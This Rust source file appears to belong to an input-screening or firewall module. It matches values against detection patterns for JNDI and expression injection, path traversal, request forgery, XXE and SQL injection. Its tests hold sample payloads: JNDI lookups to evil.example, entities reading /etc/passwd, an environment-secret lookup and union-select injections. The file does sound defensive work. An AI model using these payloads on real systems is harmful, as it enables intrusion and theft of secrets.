use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder};

use super::rule::Rule;
use super::{address, doctype, expression, script, sql};

/// What gives a value away wherever it stands in it, whatever the case of its letters.
const ANYWHERE: [(&str, Rule); 53] = [
    ("${jndi:", Rule::ExpressionInjection),
    ("${lower:", Rule::ExpressionInjection),
    ("${upper:", Rule::ExpressionInjection),
    ("${env:", Rule::ExpressionInjection),
    ("${sys:", Rule::ExpressionInjection),
    ("${script:", Rule::ExpressionInjection),
    ("${dns:", Rule::ExpressionInjection),
    ("${ldap:", Rule::ExpressionInjection),
    ("${ldaps:", Rule::ExpressionInjection),
    ("${rmi:", Rule::ExpressionInjection),
    ("${url:", Rule::ExpressionInjection),
    ("${const:", Rule::ExpressionInjection),
    ("${base64decoder:", Rule::ExpressionInjection),
    ("${java:", Rule::ExpressionInjection),
    ("${::-", Rule::ExpressionInjection),
    ("%{(#", Rule::ExpressionInjection),
    ("${t(java.", Rule::ExpressionInjection),
    ("#{t(java.", Rule::ExpressionInjection),
    ("*{t(", Rule::ExpressionInjection),
    ("%{#", Rule::ExpressionInjection),
    ("%24%7bjndi", Rule::ExpressionInjection),
    ("@getruntime(", Rule::ExpressionInjection),
    ("getruntime().exec", Rule::ExpressionInjection),
    ("#_memberaccess", Rule::ExpressionInjection),
    ("freemarker.template.utility", Rule::ExpressionInjection),
    ("{{constructor.", Rule::ExpressionInjection),
    (".__class__.", Rule::ExpressionInjection),
    (".__subclasses__", Rule::ExpressionInjection),
    ("://metadata.google.internal", Rule::RequestForgery),
    ("<!entity", Rule::EmbeddedEntity),
    ("../../", Rule::PathTraversal),
    ("..//..", Rule::PathTraversal),
    ("..\\..\\", Rule::PathTraversal),
    ("%2e%2e%2f", Rule::PathTraversal),
    ("%2e%2e/", Rule::PathTraversal),
    ("..%2f", Rule::PathTraversal),
    ("%2e%2e%5c", Rule::PathTraversal),
    ("..%5c", Rule::PathTraversal),
    ("..%c0%af", Rule::PathTraversal),
    ("%252e%252e", Rule::PathTraversal),
    ("../etc/", Rule::PathTraversal),
    ("..\\../", Rule::PathTraversal),
    ("../..\\", Rule::PathTraversal),
    ("..\\/..\\/", Rule::PathTraversal),
    (".././../", Rule::PathTraversal),
    ("....//", Rule::PathTraversal),
    ("..;/", Rule::PathTraversal),
    ("%c0%ae%c0%ae", Rule::PathTraversal),
    ("..%c1%9c", Rule::PathTraversal),
    ("..%u2215", Rule::PathTraversal),
    ("..%u2216", Rule::PathTraversal),
    ("..%25", Rule::PathTraversal),
    ("/web-inf/", Rule::PathTraversal),
];

/// What gives a value away that begins with it.
const AT_THE_START: [(&str, Rule); 14] = [
    ("file:/", Rule::RequestForgery),
    ("url:file:", Rule::RequestForgery),
    ("url:http", Rule::RequestForgery),
    ("tftp://", Rule::RequestForgery),
    ("zip://", Rule::RequestForgery),
    ("compress.zlib://", Rule::RequestForgery),
    ("gopher://", Rule::RequestForgery),
    ("dict://", Rule::RequestForgery),
    ("jar:http", Rule::RequestForgery),
    ("jar:file:", Rule::RequestForgery),
    ("netdoc:", Rule::RequestForgery),
    ("php://", Rule::RequestForgery),
    ("expect://", Rule::RequestForgery),
    ("phar://", Rule::RequestForgery),
];

/// The automaton of [`ANYWHERE`]; nothing, if it could not be built, which a test denies.
static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let patterns = ANYWHERE.iter().map(|(pattern, _)| pattern);
    let mut builder = AhoCorasickBuilder::new();
    builder.ascii_case_insensitive(true).build(patterns).ok()
});

/// Tells the rules that apply to a value.
pub(super) fn look_at(value: &str, mut tell: impl FnMut(Rule)) {
    if !may_be_a_threat(value) {
        return;
    }
    let matches = FINDER.iter().flat_map(|finder| finder.find_iter(value));
    for found in matches {
        if let Some((_, rule)) = ANYWHERE.get(found.pattern().as_usize()) {
            tell(*rule);
        }
    }
    let trimmed = value.trim_start();
    for (start, rule) in AT_THE_START {
        let begins = trimmed.get(..start.len());
        if begins.is_some_and(|begins| begins.eq_ignore_ascii_case(start)) {
            tell(rule);
        }
    }
    if address::is_of_metadata(value) {
        tell(Rule::RequestForgery);
    }
    if expression::is_nested(value) {
        tell(Rule::ExpressionInjection);
    }
    if doctype::names_another_document(value) {
        tell(Rule::EmbeddedEntity);
    }
    if script::is_run(value) {
        tell(Rule::ScriptPattern);
    }
    if sql::goes_on_in_sql(value) {
        tell(Rule::SqlPattern);
    }
}

/// Whether it holds what belongs to some pattern, or is words after a number. Words, numbers and base64, which only ends in `=`, are passed by.
fn may_be_a_threat(value: &str) -> bool {
    let bytes = value.as_bytes().trim_ascii();
    let padding = bytes.iter().rev().take_while(|byte| **byte == b'=').count();
    let unpadded = bytes.get(..bytes.len().saturating_sub(padding));
    let begins_with_number = bytes.first().is_some_and(u8::is_ascii_digit);
    unpadded
        .unwrap_or(bytes)
        .iter()
        .any(|byte| is_suspicious(*byte) || begins_with_number && byte.is_ascii_whitespace())
        || !value.is_ascii() && sql::has_other_quote(value)
}

const fn is_suspicious(byte: u8) -> bool {
    matches!(
        byte,
        b'\''
            | b'"'
            | b'<'
            | b'('
            | b'.'
            | b'%'
            | b':'
            | b'{'
            | b';'
            | b','
            | b'*'
            | b'-'
            | b'@'
            | b'='
            | b'|'
            | b'#'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(value: &str) -> Vec<Rule> {
        let mut rules = Vec::new();
        look_at(value, |rule| rules.push(rule));
        rules.dedup();
        rules
    }

    #[test]
    fn attacks_are_told_by_their_names() {
        assert!(FINDER.is_some());
        for (value, rule) in [
            ("${jndi:ldap://evil.example/a}", Rule::ExpressionInjection),
            (
                "${${lower:j}ndi:ldap://evil.example/a}",
                Rule::ExpressionInjection,
            ),
            ("${${::-j}${::-n}di:x}", Rule::ExpressionInjection),
            ("${jn${foo:-d}i:ldap://evil.example/a}", Rule::ExpressionInjection),
            ("%24%7Bjndi:ldap://evil.example/a}", Rule::ExpressionInjection),
            ("*{T(java.lang.Runtime)}", Rule::ExpressionInjection),
            ("${dns:address|evil.example}", Rule::ExpressionInjection),
            ("${LDAP:cn=x}", Rule::ExpressionInjection),
            ("${env:AWS_SECRET_ACCESS_KEY}", Rule::ExpressionInjection),
            ("http://169.0xfe.0251.254/", Rule::RequestForgery),
            ("http://[::ffff:169.254.169.254]/", Rule::RequestForgery),
            ("1 or id=id", Rule::SqlPattern),
            ("'-sleep(5)-'", Rule::SqlPattern),
            ("1 or 2>1", Rule::SqlPattern),
            (
                "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script>",
                Rule::ScriptPattern,
            ),
            ("1 OR 1=1", Rule::SqlPattern),
            ("1 uNiOn/*x*/SeLeCt password from users", Rule::SqlPattern),
            ("1 union select password from users", Rule::SqlPattern),
            ("xʼ or 1 is null", Rule::SqlPattern),
            ("x' OR true--", Rule::SqlPattern),
            (
                "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
                Rule::EmbeddedEntity,
            ),
            ("http://2852039166/latest/meta-data/", Rule::RequestForgery),
            ("http://x@169.254.169.254/", Rule::RequestForgery),
            ("file:/etc/passwd", Rule::RequestForgery),
            ("....//....//x", Rule::PathTraversal),
            ("/a/..;/manager/html", Rule::PathTraversal),
            ("..%252fx", Rule::PathTraversal),
            ("%{(#a=1)}", Rule::ExpressionInjection),
            ("http://169.254.169.254/latest/meta-data/", Rule::RequestForgery),
            (" FILE:///etc/passwd", Rule::RequestForgery),
            ("gopher://127.0.0.1:6379/_FLUSHALL", Rule::RequestForgery),
            (
                "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
                Rule::EmbeddedEntity,
            ),
            ("<!DOCTYPE a [<!ENTITY\tx 'y'>]><a>&x;</a>", Rule::EmbeddedEntity),
            ("../../../etc/passwd", Rule::PathTraversal),
            ("..//..//..//var/log", Rule::PathTraversal),
            ("..\\..\\windows\\win.ini", Rule::PathTraversal),
            ("a/%2E%2E%2Fb", Rule::PathTraversal),
            ("../etc/shadow", Rule::PathTraversal),
            ("<script>alert(1)</script>", Rule::ScriptPattern),
            ("x' or 1=1 --", Rule::SqlPattern),
        ] {
            assert_eq!(rules(value), [rule], "{value}");
        }
    }

    #[test]
    fn every_pattern_is_found_and_begins_with_what_is_suspicious_or_holds_it() {
        for (pattern, rule) in ANYWHERE {
            assert!(
                rules(&format!("word {pattern} word")).contains(&rule),
                "{pattern}"
            );
        }
        for (pattern, rule) in AT_THE_START {
            assert!(rules(pattern).contains(&rule), "{pattern}");
            assert!(!rules(&format!("word {pattern}")).contains(&rule), "{pattern}");
        }
    }

    #[test]
    fn what_people_and_programs_write_is_no_threat() {
        for harmless in [
            "",
            "O'Brien",
            "O'Brien & Sons (Dublin); Attn: Mr. O'Neill",
            "select a date",
            "Please select a date from the list; drop me a line, or update the table of contents.",
            "The union selected a chair. All union members, select from these: 1, 2 or 3.",
            "rock 'n' roll or jazz",
            "'either' or 'or'",
            "He said: \"yes\" or \"no\" = maybe",
            "1 or 2 = 3?",
            "-- Kind regards",
            "'Kind regards' --",
            "5 - 3 = 2; 7 -- 8",
            "JavaScript: The Good Parts (2008)",
            "on Monday = closed; a < b and b > c",
            "<b>bold</b> and <a href=\"https://example.org/?on=1\">a link</a>",
            "<!DOCTYPE html><html><body><p>mail</p></body></html>",
            "../images/logo.png",
            "and so on.../or so",
            "C:\\Program Files\\x",
            "https://example.org/a/b.html?x=1&y=%20z",
            "file: see attachment",
            "urn:uuid:6e8bc430-9c3a-11d9-9669-0800200c9a66",
            "2026-11-24T00:00:00.000Z",
            "100 % of ${amount} and {name}",
            "It costs 5' 3\" or so; (see table 3)",
            "Robert; delete from the list what you don't need",
            "D'or, 1 = one; L'Oréal",
            "MIIB+zCCAWSgAwIBAgIBADANBgkqhkiG9w0BAQUFADAv/==",
            "Smith or Jones, select few",
            "Anna-Maria d'Or; Seán O'Reilly; Jan 't Hooft; François L'Hôpital",
            "Rue de l'Or 12, 1000 Bruxelles",
            "1,299.00 EUR or 1.299,00 EUR",
            "$1.99 or £2 #1 seller",
            "1 or 2 items",
            "7 and 8 = 15",
            "2 - 3 weeks; order by phone",
            "24/7 -- 365",
            "{\"a\": {\"b\": [1, \"it's\", null, true]}, \"c\": \"x = y\"}",
            "[{'id': 1, 'or': true}]",
            "SELECT is a word; so are FROM, WHERE and DROP",
            "Union of select members; drop off at 5",
            "<order xmlns=\"urn:x\" id='1'><item qty=\"2\">bolt's</item></order>",
            "<?xml version=\"1.0\"?><a b=\"c\"/>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "https://example.org/search?q=a+or+b&x=1#part-2",
            "http://localhost:8080/orders?id=1",
            "mailto:o'neil@example.org",
            "cid:part1.0@example.org",
            "/usr/share/doc/a..b/c.html",
            "${project.version}-${build.number}",
            "{{name}} owes {{amount}}",
            "a = b || c = d",
            "if (x == 1 || y == 2) { z = 'a'; }",
            "15\" or 17\" screens = fine",
            "12' x 14' or 3.6 m x 4.2 m",
            "He said 'no' and 1 = 1",
            "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
            "CN=O'Brien, OU=R&D #1, O=\"Smith, Sons\", C=IE",
            "2026-11-24 or 2026-11-25",
            "dGhlIHF1aWNrIGJyb3duIGZveA==",
            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
            "<person onboarding=yes>",
            "<task onward='x' ongoing=true/>",
            "information_schema.tables is a view",
            "The view INFORMATION_SCHEMA.COLUMNS (see SQL-92) lists columns.",
            "A query has a SELECT list, a FROM clause and, if need be, WHERE; e.g. SELECT name FROM customers WHERE id = 7",
            "pg_sleep() waits, and xp_cmdshell is off.",
            "${url}/${const}: ${java.version}",
            "http://192.168.0.1/ or //example.org",
            "1 or a=b",
            "2 or more = many",
            "<x:object>a</x:object>",
        ] {
            assert_eq!(rules(harmless), [], "{harmless}");
        }
    }
}
